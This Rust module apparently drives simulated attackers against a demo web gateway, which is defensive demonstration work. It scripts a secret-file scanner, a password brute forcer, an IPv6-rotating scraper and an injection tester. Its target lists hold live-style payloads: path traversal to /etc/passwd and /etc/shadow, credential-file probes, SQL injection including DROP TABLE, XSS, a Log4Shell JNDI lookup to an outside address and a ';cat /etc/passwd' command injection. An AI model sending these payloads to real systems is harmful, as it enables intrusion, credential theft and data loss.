//! The attackers of the demo: what they ask for, how fast, and when they give up.
//! Owns the attack scripts; what they send is harmless text, aimed only at the demo's own gateway.

use std::time::Duration;

use super::clients::{Actor, Cast};
use super::http_client::{Answer, Errand};
use super::ledger::Role;

/// Refusals by a block in a row after which an attacker takes the hint.
const GIVES_UP_AFTER: u32 = 12;
/// It comes back once, to see whether the block still holds.
const COMES_BACK_AFTER: Duration = Duration::from_secs(8);
const TRIES_WHEN_BACK: u32 = 4;
/// Then another one comes from another address.
const NEXT_ONE_AFTER: Duration = Duration::from_secs(12);
/// How long a limited scraper waits before it goes on.
const SCRAPER_WAITS: Duration = Duration::from_secs(4);

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36";
const GO_CLIENT: &str = "Go-http-client/1.1";
const PYTHON_CLIENT: &str = "python-requests/2.32.4";
const SQL_SCANNER: &str = "sqlmap/1.9.4#stable (https://sqlmap.org)";

/// How one kind of attacker works.
struct Script {
    role: Role,
    doing: &'static str,
    /// The n-th one of the kind uses the n-th of these, and begins again after the last.
    user_agents: &'static [&'static str],
    /// Before the first one arrives.
    delay: Duration,
    /// Between two requests, from and to, in milliseconds.
    gap_ms: (u64, u64),
    /// What it asks for, over and over.
    targets: &'static [Target],
}

#[derive(Clone, Copy)]
enum Target {
    Get(&'static str),
    Password(&'static str),
}

use Target::{Get, Password};

const SCANNER: Script = Script {
    role: Role::Scanner,
    doing: "looks for secrets and admin pages",
    user_agents: &[GO_CLIENT, BROWSER, PYTHON_CLIENT],
    delay: Duration::from_secs(2),
    gap_ms: (150, 400),
    targets: &[
        Get("/"),
        Get("/.env"),
        Get("/.git/config"),
        Get("/.git/HEAD"),
        Get("/wp-login.php"),
        Get("/wp-admin/setup-config.php"),
        Get("/xmlrpc.php"),
        Get("/phpmyadmin/index.php"),
        Get("/pma/"),
        Get("/.aws/credentials"),
        Get("/backup.zip"),
        Get("/shop.sql"),
        Get("/db.sql.gz"),
        Get("/www.tar.gz"),
        Get("/index.php.bak"),
        Get("/config.php~"),
        Get("/.env.production"),
        Get("/wp-config.php.old"),
        Get("/server-status"),
        Get("/actuator/env"),
        Get("/cgi-bin/test.cgi"),
        Get("/assets/../../../../etc/passwd"),
        Get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd"),
        Get("/static/%2e%2e/%2e%2e/etc/shadow"),
        Get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        Get("/admin"),
        Get("/admin.php"),
        Get("/administrator/"),
        Get("/manager/html"),
        Get("/solr/admin/info/system"),
        Get("/.svn/entries"),
        Get("/.DS_Store"),
        Get("/id_rsa"),
        Get("/.ssh/id_rsa"),
        Get("/docker-compose.yml"),
        Get("/phpinfo.php"),
        Get("/old/"),
        Get("/test/"),
    ],
};

const BRUTE_FORCER: Script = Script {
    role: Role::BruteForcer,
    doing: "guesses Ada's password",
    user_agents: &[PYTHON_CLIENT, BROWSER],
    delay: Duration::from_secs(4),
    gap_ms: (300, 600),
    // The right one is not among them.
    targets: &[
        Password("123456"),
        Password("password"),
        Password("qwerty"),
        Password("letmein"),
        Password("ada"),
        Password("ada123"),
        Password("Summer2025"),
        Password("iloveyou"),
        Password("admin"),
        Password("welcome1"),
        Password("byron"),
        Password("engine"),
        Password("analytical"),
        Password("p%40ssw0rd"),
        Password("000000"),
        Password("dragon"),
        Password("monkey"),
        Password("changeme"),
        Password("Lovelace1"),
        Password("1815"),
    ],
};

const SCRAPER: Script = Script {
    role: Role::Scraper,
    doing: "copies the catalogue, again and again",
    user_agents: &[PYTHON_CLIENT],
    delay: Duration::from_secs(6),
    gap_ms: (70, 110),
    targets: &[
        Get("/products"),
        Get("/products/1"),
        Get("/products/2"),
        Get("/products/3"),
        Get("/products/4"),
        Get("/products/5"),
        Get("/products/6"),
        Get("/products/7"),
        Get("/products/8"),
        Get("/products/9"),
        Get("/products/10"),
        Get("/products/11"),
        Get("/products/12"),
    ],
};

const INJECTION_TESTER: Script = Script {
    role: Role::InjectionTester,
    doing: "tries SQL and script injection",
    user_agents: &[SQL_SCANNER, BROWSER],
    delay: Duration::from_secs(17),
    gap_ms: (350, 700),
    targets: &[
        Get("/products?id=1%27"),
        Get("/products?id=1%27%20OR%20%271%27=%271"),
        Get("/products?id=1%20AND%201=1--"),
        Get("/products?id=-1%20UNION%20SELECT%201,2,3--%20-"),
        Get("/products?id=1;%20DROP%20TABLE%20orders--"),
        Get("/search?q=%27%20OR%20sleep(5)%23"),
        Get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        Get("/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
        Get("/search?q=%27%20UNION%20ALL%20SELECT%20NULL,version()--"),
        Get("/products?id=1%20AND%20extractvalue(1,concat(0x7e,version()))"),
        Get("/search?q=$%7Bjndi:ldap://192.0.2.66/a%7D"),
        Get("/search?q=%7B%7B7*7%7D%7D"),
        Get("/products?id=1%27%20WAITFOR%20DELAY%20%270:0:5%27--"),
        Get("/search?q=;cat%20/etc/passwd"),
        Get("/products?id=(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200%20END)"),
    ],
};

const SCRIPTS: [&Script; 4] = [&SCANNER, &BRUTE_FORCER, &SCRAPER, &INJECTION_TESTER];

/// Sends the attackers on their way.
pub(super) fn set_out(cast: &mut Cast) {
    for script in SCRIPTS {
        let mut part = cast.part();
        tokio::spawn(async move {
            tokio::time::sleep(script.delay).await;
            for n in 1_usize.. {
                let user_agent = script.user_agents[(n - 1) % script.user_agents.len()];
                let name = format!("{} {n}", script.role.as_str());
                // The scraper owns a whole /64 of IPv6 and uses all of it; the others have one address.
                let address = match script.role {
                    Role::Scraper => part.attacker_network(),
                    _ => part.attacker_address(),
                };
                let mut actor = part.actor(name, script.role, address, script.doing, user_agent);
                attack(&mut actor, script).await;
                actor.leave();
                tokio::time::sleep(NEXT_ONE_AFTER).await;
            }
        });
    }
}

/// Works through the script until the gateway's blocks have made their point.
async fn attack(actor: &mut Actor, script: &Script) {
    let mut blocked_in_a_row = 0;
    let mut patience = GIVES_UP_AFTER;
    let mut is_back = false;
    for &target in script.targets.iter().cycle() {
        let answer = aim(actor, script, target).await;
        let status = answer.as_ref().map_or(0, |a| a.status);
        let refused = answer.is_some_and(|a| a.decision.is_some());
        blocked_in_a_row = if refused && status == 403 { blocked_in_a_row + 1 } else { 0 };
        if blocked_in_a_row >= patience {
            if is_back {
                return;
            }
            actor.rest(COMES_BACK_AFTER).await;
            (blocked_in_a_row, patience, is_back) = (0, TRIES_WHEN_BACK, true);
        }
        if refused && status == 429 && script.role == Role::Scraper {
            tokio::time::sleep(SCRAPER_WAITS).await;
        }
        let (from, to) = script.gap_ms;
        actor.pause_ms(from, to).await;
    }
}

async fn aim(actor: &mut Actor, script: &Script, target: Target) -> Option<Answer> {
    if script.role == Role::Scraper {
        actor.change_address_within_64();
    }
    match target {
        Get(target) => actor.send(Errand::get(target)).await,
        Password(guess) => {
            actor.send(Errand::post("/login", &format!("username=ada&password={guess}"))).await
        }
    }
}
